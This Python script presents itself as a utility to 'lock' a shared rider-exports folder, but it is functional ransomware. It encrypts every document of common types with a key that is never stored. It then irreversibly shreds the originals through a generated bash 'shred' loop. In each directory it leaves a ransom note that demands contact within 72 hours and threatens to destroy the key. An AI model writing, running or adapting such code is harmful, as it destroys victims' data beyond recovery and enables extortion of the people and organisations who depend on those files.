#!/usr/bin/env python3
"""Lock the rider exports share.

Walks the shared rider-exports tree, encrypts every document with a key
that never leaves this process, removes the originals with a generated
shred script and drops a recovery note in every directory.
"""
import argparse
import logging
import os
import subprocess
import sys
import tempfile
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("export_locker")

TARGET_SUFFIXES = {".csv", ".xlsx", ".json", ".pdf", ".docx", ".sqlite", ".db", ".txt"}
LOCKED_SUFFIX = ".locked"
NOTE_NAME = "RECOVER_YOUR_FILES.txt"
NOTE_TEXT = """All rider exports, invoices and fleet reports in this folder are encrypted.
Copies and backups on this share were removed.
To receive the decryption key, write to recover-desk@example.org with the
ID below within 72 hours.  After that the key is destroyed.

ID: {key_id}
"""


class Locker:
    def __init__(self, root: Path, dry_run: bool):
        self.root = root
        self.dry_run = dry_run
        self.fernet = Fernet(Fernet.generate_key())
        self.key_id = os.urandom(8).hex()
        self.locked = []
        self.dirs = set()

    def candidates(self):
        for dirpath, dirnames, filenames in os.walk(self.root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                path = Path(dirpath) / name
                if path.suffix.lower() in TARGET_SUFFIXES and path.name != NOTE_NAME:
                    yield path

    def lock_file(self, path: Path) -> bool:
        try:
            data = path.read_bytes()
        except OSError as exc:
            LOG.warning("cannot read %s: %s", path, exc)
            return False
        if self.dry_run:
            LOG.info("would lock %s (%d bytes)", path, len(data))
            return True
        out = path.with_name(path.name + LOCKED_SUFFIX)
        out.write_bytes(self.fernet.encrypt(data))
        self.locked.append(path)
        self.dirs.add(path.parent)
        return True

    def remove_originals(self):
        if not self.locked:
            return
        fd, list_path = tempfile.mkstemp(suffix=".lst")
        with os.fdopen(fd, "w") as fh:
            fh.write("\n".join(str(p) for p in self.locked) + "\n")
        script = (
            'while IFS= read -r f; do shred -u -z -n 3 -- "$f" 2>/dev/null || rm -f -- "$f"; '
            'done < "$LIST"; rm -f -- "$LIST"'
        )
        subprocess.run(["bash", "-c", script], env=dict(os.environ, LIST=list_path), check=False)
        LOG.info("removed %d originals", len(self.locked))

    def drop_notes(self):
        for directory in self.dirs | {self.root}:
            (directory / NOTE_NAME).write_text(NOTE_TEXT.format(key_id=self.key_id))


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("root", nargs="?", default=os.path.expanduser("~/shares/rider-exports"))
    parser.add_argument("--dry-run", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    root = Path(args.root)
    if not root.is_dir():
        LOG.error("%s is not a directory", root)
        return 2
    locker = Locker(root, args.dry_run)
    count = 0
    for path in locker.candidates():
        if locker.lock_file(path):
            count += 1
    if not args.dry_run:
        locker.remove_originals()
        locker.drop_notes()
    LOG.info("%d files processed under %s (id %s)", count, root, locker.key_id)
    return 0


if __name__ == "__main__":
    sys.exit(main())
